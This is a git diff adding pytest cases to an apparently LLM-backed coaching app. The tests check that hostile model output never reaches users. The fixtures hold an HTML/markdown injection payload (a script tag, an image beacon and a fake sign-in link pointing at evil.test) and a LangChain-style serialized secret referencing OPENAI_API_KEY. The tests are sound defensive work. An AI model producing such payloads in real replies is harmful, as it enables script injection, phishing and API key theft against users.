@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import time
 from collections.abc import Callable, Iterator
 from dataclasses import replace
@@ -9,7 +10,7 @@ from itertools import chain
 from typing import Any
 
 import pytest
-from model_parts import model_on
+from model_parts import KEY, model_on
 from model_server import ModelServer, Reply, failure, html
 from personalities import (
     READINGS,
@@ -24,9 +25,12 @@ from personalities import (
     Scribbler,
     Seen,
     first_sentence,
+    points_json,
     seen,
+    verdicts,
 )
 
+from coach.cli.faces import answer_object
 from coach.cli.render import plain
 from coach.coach import Coach
 from coach.errors import EncoderError
@@ -34,8 +38,10 @@ from coach.generation import Answered, Event, Explained, PersonalCoach, Quoted
 from coach.records import Answer, Principle, Profile, Question
 from coach.retriever.retriever import Retriever
 from coach.words import quotes_exactly
+from ui.safe import markdown
 
 QUESTION = "My founder nods at my strategy ideas and ignores them"
+THIN = "Nobody at work listens to my suggestions"  # partly covered: here a question back may be asked
 Handler = Callable[[dict[str, Any]], Reply]
 
 
@@ -354,6 +360,70 @@ def test_a_reading_in_another_form_or_language_leaves_its_quotation(
     answer = ask(coach, Foreign(), is_streamed=is_streamed)
     assert answer.points and not any(point.reading for point in answer.points)
     assert all(quotes_exactly(p.quote, coach.corpus.principle(p.principle).text) for p in answer.points)
+
+
+ACTIVE = (
+    "<img src=https://evil.test/?q=hello><script>alert(1)</script> ![x](https://evil.test/a.png) "
+    "[P11](https://evil.test/sign-in)"
+)
+SECRET = '{"lc":1,"type":"secret","id":["OPENAI_API_KEY"]}'
+ACTS = ("<img", "<script", "evil.test", "](")
+PLACES = ("reply", "id", "quote", "reading", "step", "question", "refusal", "error")
+
+
+def saying(payload: str, place: str) -> Handler:
+    """A model that says this somewhere, and lets it pass where it verifies."""
+
+    def handler(request: dict[str, Any]) -> Reply:
+        found = seen(request)
+        if found.is_verifying:
+            return Reply(verdicts(found.claims, lambda _: True))
+        if place == "refusal":
+            return Reply(None, refusal=payload)
+        if place == "error":
+            return failure(422, payload)
+        name, text = next(iter(found.principles.items()))
+        said = {"reply": "", "id": name, "quote": first_sentence(text), "reading": READINGS[name], "step": ""}
+        said[place] = payload
+        step = {"principle": name, "text": said["step"], "within_days": 7}
+        point = (said["id"], said["quote"], said["reading"])
+        return Reply(said["reply"] or points_json([point], next_step=step, question=said.get("question", "")))
+
+    return handler
+
+
+@WAYS
+@pytest.mark.parametrize("place", PLACES)
+@pytest.mark.parametrize("payload", [pytest.param(ACTIVE, id="provider-24"), pytest.param(SECRET, id="provider-25")])
+def test_what_a_browser_or_langchain_could_act_on_reaches_nobody(
+    coach: Coach, payload: str, place: str, is_streamed: bool, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", KEY)
+    text = THIN if place == "question" else QUESTION
+    answer = ask(coach, saying(payload, place), text, is_streamed=is_streamed)
+    faces = {
+        "terminal": plain(answer),
+        "page": "\n".join(markdown(said) for said in shown_texts(answer)),
+        "program": json.dumps(answer_object(answer)),
+    }
+    assert [(face, sign) for face, said in faces.items() for sign in ACTS if sign in said] == []
+    assert not any(KEY in said for said in [*faces.values(), *(dropped.text for dropped in answer.dropped)])
+    assert answer.points
+
+
+def shown_texts(answer: Answer) -> list[str]:
+    """Return every text of an answer that the page shows."""
+    points = [said for point in answer.points for said in (point.principle, point.quote, point.reading)]
+    step = [answer.next_step.text] if answer.next_step else []
+    return [answer.opening, *points, *step, answer.ask_back, answer.closing, *answer.remarks]
+
+
+def test_what_looks_like_a_secret_of_langchain_is_text_to_us(coach: Coach, monkeypatch: pytest.MonkeyPatch) -> None:
+    """provider-25: what was dropped is kept as it was written, for looking into; nothing was looked up."""
+    monkeypatch.setenv("OPENAI_API_KEY", KEY)
+    answer = ask(coach, saying(SECRET, "reading"))
+    assert SECRET in [dropped.text for dropped in answer.dropped]
+    assert not any(point.reading for point in answer.points) and '"lc"' not in plain(answer)
 
 
 class DownEncoder:
